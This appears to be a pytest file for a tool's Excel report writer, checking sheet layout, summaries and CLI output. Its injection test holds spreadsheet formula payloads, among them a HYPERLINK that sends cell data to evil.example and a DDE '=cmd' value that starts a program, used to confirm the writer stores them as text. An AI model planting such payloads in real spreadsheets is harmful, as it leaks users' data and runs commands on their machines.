"""``--format xlsx``: the workbook a manager opens, read back with openpyxl as a spreadsheet reads it.

A summary sheet first, then a sheet per rule code or finding kind with its header frozen and filters
on, file:line kept as text, and no cell a formula, whatever the model's text says.
"""

from __future__ import annotations

import io
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from eagraph.analyses.coverage import Coverage
from eagraph.findings import Finding, Severity
from eagraph.reporters import ReportContext, render
from eagraph.reporters.spreadsheet import CELL_LENGTH, Sheet, Table, sheet_name, workbook_bytes, xlsx_table
from eagraph.reporters.xlsx import COLUMNS
from eagraph.workspace import Location
from helpers import write
from test_reporters import CONTEXT, EX, FINDINGS
from test_validate_cli import PREFIXES

GRANTING = Path(__file__).parent / "data" / "analyses" / "granting"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def workbook(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def rows(sheet) -> list[tuple]:
    return [tuple(row) for row in sheet.iter_rows(values_only=True)]


def records(sheet) -> list[dict]:
    header, *body = rows(sheet)
    return [dict(zip(header, row)) for row in body]


def formulas(data: bytes) -> list[str]:
    """Every sheet of the file whose XML holds a formula element: a spreadsheet would run it."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [name for name in archive.namelist()
                if name.startswith("xl/worksheets/") and (b"<f>" in archive.read(name) or b"<f " in archive.read(name))]


def test_a_summary_then_a_sheet_per_code_worst_first_header_frozen_filters_on():
    book = workbook(render("xlsx", FINDINGS, CONTEXT))
    assert book.sheetnames == ["summary", "EAG012", "EAG020", "EAG031", "only-once-violation", "EAG040"]
    for name, count in [("EAG012", 2), ("EAG020", 1), ("EAG031", 1), ("only-once-violation", 2), ("EAG040", 1)]:
        sheet = book[name]
        assert sheet.freeze_panes == "A2", name
        assert sheet.auto_filter.ref == f"A1:L{count + 1}", name
        assert rows(sheet)[0] == COLUMNS
        assert {row["code"] for row in records(sheet)} == {name}
    # The statement's place where it is known, as text an editor opens; line and column as numbers.
    tax = records(book["EAG012"])[1]
    assert (tax["file:line"], tax["file"], tax["line"], tax["column"]) == (
        "services/tax.ttl:7", "services/tax.ttl", 7, 3)
    assert book["EAG012"]["H3"].data_type == "s"
    assert records(book["EAG031"])[0]["file:line"] == "services/sécurité sociale.ttl:3"
    assert records(book["EAG020"])[0]["file:line"] is None  # no place known: an empty cell
    # An analysis kind ranks by score, highest first, the score a number the filter can sort.
    scored = records(book["only-once-violation"])
    assert [(r["subject"], r["score"]) for r in scored] == [
        (EX + "service/social-tariff", 0.875), (EX + "service/study-grant", 0.5)]
    assert scored[0]["related"] == EX + "evidence/income " + EX + "source/tax-records"
    assert book["EAG012"].column_dimensions["C"].width >= len("service has no French title")


def test_the_summary_names_the_model_version_date_counts_and_the_coverage():
    coverage = (Coverage("only-once-violation", 3, 41, "evidence items", "linked to a source"),
                Coverage("certificate-loop", 0, 41, "evidence items", "conform to an evidence type"))
    context = ReportContext(tool_version="1.2.3", rules=CONTEXT.rules, command="analyze", model="models",
                            coverage=coverage, language="nl")
    summary = rows(workbook(render("xlsx", FINDINGS, context))["summary"])
    assert [r[:2] for r in summary[:5]] == [("eagraph analyze", None), ("model", "models"),
                                            ("eagraph version", "1.2.3"), ("date", date.today().isoformat()),
                                            ("language", "nl")]
    assert summary[5][1].startswith("2 fouten, 4 waarschuwingen, 1 melding in 6 bestanden")
    assert [r[:2] for r in summary[7:11]] == [("severity", "findings"), ("error", 2), ("warning", 4), ("info", 1)]
    assert summary[12][:4] == ("code", "name", "severity", "findings")
    assert summary[13][:4] == ("EAG012", "service-title-language", "error", 2)
    assert summary[-3] == ("kind", "has it", "of", "things", "what it needs", "note")
    assert summary[-2] == ("only-once-violation", 3, 41, "evidence items", "linked to a source", None)
    assert summary[-1] == ("certificate-loop", 0, 41, "evidence items", "conform to an evidence type",
                           "no data: silence is not all clear")
    # The message in the language asked for.
    assert records(workbook(render("xlsx", FINDINGS, context))["EAG012"])[0]["message"] == \
        "dienst heeft geen Franse titel"


def test_no_findings_is_a_summary_alone():
    book = workbook(render("xlsx", [], CONTEXT))
    assert book.sheetnames == ["summary"]
    assert ("findings", "no findings") in [r[:2] for r in rows(book["summary"])]


def test_a_hostile_text_is_stored_as_a_string_never_a_formula():
    """A title or message like '=HYPERLINK(…)' is a string cell with the CSV rule's leading quote;
    control characters XML cannot carry and a text longer than a cell holds do not break the file."""
    hostile = [Finding("EAG031", Severity.WARNING, "=cmd|' /C calc'!A0", {"en": HOSTILE}, value="+1+1",
                       related=("@SUM(A1)",), location=Location("@evil.ttl", 1, 1)),
               Finding("EAG[]:*?/\\031", Severity.WARNING, EX + "x", {"en": "bell\x07 and NUL\x00" + "x" * 40000})]
    data = render("xlsx", hostile, CONTEXT)
    assert formulas(data) == []
    book = workbook(data)
    sheet = book["EAG031"]
    row = records(sheet)[0]
    assert row["message"] == "'" + HOSTILE and sheet["C2"].data_type == "s"
    assert (row["subject"], row["value"], row["related"]) == ("'=cmd|' /C calc'!A0", "'+1+1", "'@SUM(A1)")
    assert (row["file"], row["file:line"]) == ("'@evil.ttl", "'@evil.ttl:1")
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
    odd = records(book["EAG" + "_" * 7 + "031"])[0]
    assert odd["code"] == "EAG[]:*?/\\031"
    assert odd["message"].startswith("bell\ufffd and NUL\ufffdxxx") and len(odd["message"]) == CELL_LENGTH


def test_sheet_names_are_valid_and_unique_without_case():
    taken: set[str] = set()
    names = [sheet_name(n, taken) for n in
             ["summary", "Summary", "a" * 40, "a" * 40, "x/y:z", "'quoted'", "", "History", "[]"]]
    assert names == ["summary", "Summary (2)", "a" * 31, "a" * 27 + " (2)", "x_y_z", "quoted", "sheet", "History_",
                     "__"]
    assert all(len(n) <= 31 for n in names)


def test_any_table_is_a_workbook_in_one_line():
    """What burden (or any command with a table) needs: columns and rows, numbers kept numbers."""
    book = workbook(xlsx_table("burden", ("service", "hours", "euros"), [("=tax", 1.5, 30), ("child", 2, None)]))
    sheet = book["burden"]
    assert rows(sheet) == [("service", "hours", "euros"), ("'=tax", 1.5, 30), ("child", 2, None)]
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:C3")
    two = workbook(workbook_bytes([Sheet("a", [Table(("x",), [(1,)]), Table(("y", "z"), [])])]))["a"]
    assert rows(two) == [("x", None), (1, None), (None, None), ("y", "z")]
    assert (two.freeze_panes, two.auto_filter.ref) == (None, None)  # blocks to read, not one table to filter


# The commands ---------------------------------------------------------------------------------
@pytest.fixture
def broken(tmp_path, monkeypatch):
    """A model with a syntax error at models/sub/broken.ttl:10, the command run from its parent."""
    monkeypatch.chdir(tmp_path)
    write(tmp_path, "models/eagraph.toml", '[model]\nlanguages = ["nl", "fr"]\n')
    write(tmp_path, "models/sub/broken.ttl", PREFIXES + "service:x a cpsv:PublicService ;\n    dct:title .\n")
    return tmp_path


def test_validate_writes_the_workbook_with_a_syntax_error_as_a_finding(run, broken):
    result = run("validate", "models", "--format", "xlsx", "-o", "report.xlsx")
    assert result.exit_code == 2
    book = workbook((broken / "report.xlsx").read_bytes())
    assert book.sheetnames == ["summary", "EAG901"]
    [row] = records(book["EAG901"])
    assert (row["severity"], row["file:line"], row["line"], row["column"]) == (
        "error", "models/sub/broken.ttl:10", 10, 15)
    assert row["message"].startswith("expected an object")
    assert ("model", "models") in [r[:2] for r in rows(book["summary"])]


def test_xlsx_without_a_file_is_refused_before_any_work(run, broken):
    """Bytes of a workbook on a terminal are garbage: -o is asked for, clearly, and nothing is written."""
    for command in ("validate", "analyze"):
        result = run(command, "models", "--format", "xlsx")
        assert result.exit_code == 2, command
        assert "--format xlsx writes a binary file" in result.output and "-o" in result.output
        assert "Traceback" not in result.output
    assert sorted(p.name for p in broken.iterdir()) == ["models"]


def test_analyze_writes_a_sheet_per_kind_and_the_coverage(run, tmp_path):
    out = tmp_path / "findings.xlsx"
    result = run("analyze", GRANTING, "--no-validate", "--format", "xlsx", "-o", out, "--language", "fr")
    assert result.exit_code == 0
    book = workbook(out.read_bytes())
    assert book.sheetnames[0] == "summary"
    assert set(book.sheetnames[1:]) == {"automatic-granting-candidate", "duplicate-service", "missing-agreement",
                                        "proactive-granting-candidate"}
    summary = rows(book["summary"])
    assert ("kind", "has it", "of", "things", "what it needs", "note") in summary
    assert ("automatic-granting-candidate", 7, 9) in [r[:3] for r in summary]
    auto = records(book["automatic-granting-candidate"])
    assert all(r["file:line"].startswith(r["file"] + ":") and r["score"] > 0 for r in auto)
    assert book["automatic-granting-candidate"].freeze_panes == "A2"


def test_burden_writes_a_sheet_per_level_with_numbers_a_sum_can_use(tmp_path):
    """burden's table in a workbook: its figures numbers (not text), a hostile title a string."""
    from test_burden import CONFIG, MODEL  # the small model test_burden computes by hand
    from test_burden import run as burden

    folder = tmp_path / "model"
    write(folder, "eagraph.toml", CONFIG)
    write(folder, "model.ttl", MODEL.replace('dct:title "B"@en', 'dct:title "=HYPERLINK(\\"http://x\\")"@en'))
    assert burden(folder, "--format", "xlsx").exit_code == 2  # a workbook needs -o
    out = tmp_path / "burden.xlsx"
    result = burden(folder, "--format", "xlsx", "-o", out)
    assert result.exit_code == 0, result.output
    data = out.read_bytes()
    assert formulas(data) == []
    book = workbook(data)
    assert book.sheetnames == ["total", "authority", "event", "service"]
    [total] = records(book["total"])
    assert (total["hours"], total["euros"], total["assumed_euros_share"]) == (2416.67, 96000, 0.3073)
    services = {r["subject"]: r for r in records(book["service"])}
    assert services["https://example.org/b"]["label"] == "'=HYPERLINK(\"http://x\")"
    assert book["service"].freeze_panes == "A2" and book["service"].auto_filter.ref.startswith("A1:")
